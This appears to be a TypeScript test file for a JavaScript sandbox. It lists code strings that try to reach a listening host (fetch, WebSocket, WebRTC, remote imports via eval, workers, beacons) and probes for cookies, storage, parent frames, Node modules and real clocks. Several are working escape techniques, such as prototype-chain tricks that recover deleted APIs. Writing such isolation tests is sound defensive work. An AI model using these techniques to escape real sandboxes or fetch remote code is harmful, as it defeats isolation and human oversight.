import { attemptsOf, type Attempt } from './attack.ts';

/** Every way out that an engine offers, towards a host that listens. */
export function waysOut(host: string): readonly Attempt[] {
	const http = `http://${host}/`;
	return attemptsOf({
		fetch: `fetch('${http}').then(() => true)`,
		'fetch without cors': `fetch('${http}', { mode: 'no-cors', keepalive: true }).then(() => true)`,
		'fetch of the prototype': `Object.getPrototypeOf(Object.getPrototypeOf(globalThis)).fetch.call(globalThis, '${http}').then(() => true)`,
		'fetch after delete': `(delete globalThis.fetch, fetch('${http}').then(() => true))`,
		'fetch through the chain': `(() => { for (let o = globalThis; o; o = Object.getPrototypeOf(o)) { const d = Object.getOwnPropertyDescriptor(o, 'fetch'); if (d?.value && o !== globalThis) return d.value.call(globalThis, '${http}').then(() => true); } })()`,
		XMLHttpRequest: `new Promise((resolve) => { const x = new XMLHttpRequest(); x.onload = () => resolve(true); x.onerror = () => resolve(false); x.open('GET', '${http}'); x.send(); })`,
		WebSocket: `new Promise((resolve) => { const s = new WebSocket('ws://${host}/'); s.onopen = () => resolve(true); s.onerror = () => resolve(false); })`,
		WebSocketStream: `new WebSocketStream('ws://${host}/').opened.then(() => true)`,
		EventSource: `new Promise((resolve) => { const s = new EventSource('${http}'); s.onopen = () => resolve(true); s.onerror = () => resolve(false); })`,
		WebTransport: `new WebTransport('https://${host}/').ready.then(() => true)`,
		WebRTC: `(() => { const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:${host}' }] }); c.createDataChannel('x'); return c.createOffer().then((o) => c.setLocalDescription(o)).then(() => true); })()`,
		importScripts: `(importScripts('${http}x.js'), true)`,
		'importScripts of the prototype': `(Object.getPrototypeOf(Object.getPrototypeOf(globalThis)).importScripts.call(globalThis, '${http}x.js'), true)`,
		'import of a remote module': `import('${http}x.js').then(() => true)`,
		'import of a data module': "import('data:text/javascript,export default 1').then(() => true)",
		'import of a blob':
			"import(URL.createObjectURL(new Blob(['export default 1'], { type: 'text/javascript' }))).then(() => true)",
		'import written in a function': `new Function("return import('${http}x.js')")().then(() => true)`,
		'import written in an eval': `(0, eval)("import('${http}x.js')").then(() => true)`,
		'import from a constructor': `(async () => {}).constructor("return import('${http}x.js')")().then(() => true)`,
		'a timer of text': `(setTimeout("import('${http}x.js')", 0), false)`,
		'a nested worker': `(new Worker('${http}x.js'), true)`,
		'a nested worker of a blob': `(new Worker(URL.createObjectURL(new Blob(["fetch('${http}')"]))), true)`,
		'a nested worker of data': `(new Worker('data:text/javascript,0'), true)`,
		'a shared worker': `(new SharedWorker('${http}x.js'), true)`,
		'a service worker': `navigator.serviceWorker.register('${http}x.js').then(() => true)`,
		'an image': `new Promise((resolve) => { const i = new Image(); i.onload = () => resolve(true); i.onerror = () => resolve(false); i.src = '${http}x.png'; })`,
		'a beacon': `navigator.sendBeacon('${http}', 'x')`,
		'a DNS prefetch': `(document.head.append(Object.assign(document.createElement('link'), { rel: 'dns-prefetch', href: '//${host}' })), true)`,
		'a font': `new FontFace('x', 'url(${http}x.woff2)').load().then(() => true)`,
		'a report': `(new ReportingObserver(() => {}).observe(), navigator.sendBeacon('${http}'))`,
		'a window': `open('${http}')`,
		'a place to go': `(location.href = '${http}', true)`,
		'a module of WebAssembly': `WebAssembly.compileStreaming(fetch('${http}')).then(() => true)`,
		'a background fetch': `(new Request('${http}'), fetch(new Request('${http}')).then(() => true))`,
		'a page to push to': `PushManager.prototype.subscribe.call({}).then(() => true)`,
	});
}

/** Everything else that is not the run's own. */
export const reaches: readonly Attempt[] = attemptsOf({
	'a channel to other pages': "(new BroadcastChannel('x').postMessage(1), true)",
	'a channel of messages': '(new MessageChannel(), true)',
	'the page above': 'parent.document',
	'the top page': 'top.location',
	'the document': 'document.body',
	'a window': 'window.name',
	localStorage: 'localStorage.length >= 0',
	sessionStorage: 'sessionStorage.length >= 0',
	cookies: 'document.cookie !== undefined',
	'cookies of the store': 'cookieStore.getAll()',
	'a database': "(indexedDB.open('x'), true)",
	'a database of the prototype':
		"(Object.getPrototypeOf(Object.getPrototypeOf(globalThis)).indexedDB.open('x'), true)",
	caches: "caches.open('x').then(() => true)",
	files: 'navigator.storage.getDirectory().then(() => true)',
	locks: "navigator.locks.request('x', () => true)",
	'what the machine is': 'navigator.userAgent',
	'where the code lies': 'location.href',
	'the memory of others': '(new SharedArrayBuffer(8), true)',
	'a wait on real time': 'Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, 50)',
	'code from text': "new Function('return 1')()",
	'code from eval': "(0, eval)('1')",
	'code of a constructor': "(() => {}).constructor('return 1')()",
	'code of WebAssembly':
		'(new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])), true)',
	'the process': 'process.version',
	'the module loader': "require('node:fs')",
	'the inside of the frame': "postMessage({ kind: 'alive' }) === undefined",
	'the inside of the frame, by its prototype':
		"Object.getPrototypeOf(globalThis).postMessage.call(globalThis, { kind: 'alive' }) === undefined",
	'the end of the worker': 'close() === undefined',
	'messages to the worker': "addEventListener('message', () => {}) === undefined",
	notifications: 'Notification.requestPermission()',
	'real time of the engine': 'Temporal.Now.instant()',
	'real time of a frame': 'new Promise((resolve) => requestAnimationFrame(() => resolve(true)))',
	'real time of a file': "new File([], 'x').lastModified",
	'real time of an event': "new Event('x').timeStamp > 0 && new Event('x').timeStamp",
	'real time of a date':
		"Math.abs(new Date().getTime() - Date.parse('2026-10-09T10:30:00Z')) > 1e6",
	'real time of an old date':
		'Math.abs(new (Object.getPrototypeOf(new Date()).constructor)().getTime() - Date.now()) > 1e6',
	'real time behind delete': '(delete globalThis.Date, /native/.test(Date))',
	'real timers behind delete': '(delete globalThis.setTimeout, /native/.test(setTimeout))',
	'real performance behind delete':
		'(delete globalThis.performance, /native/.test(performance.now))',
	'real chance behind delete': '(delete globalThis.crypto, /native/.test(crypto.randomUUID))',
	'the zone of the machine': "new Intl.DateTimeFormat().resolvedOptions().timeZone !== 'UTC'",
	'the tongue of the machine': "new Intl.NumberFormat().resolvedOptions().locale !== 'en-US'",
	'what is collected': 'new FinalizationRegistry(() => {})',
	'the loader of the simulation':
		"Object.getOwnPropertySymbols(globalThis).some((s) => String(s).includes('playground'))",
});
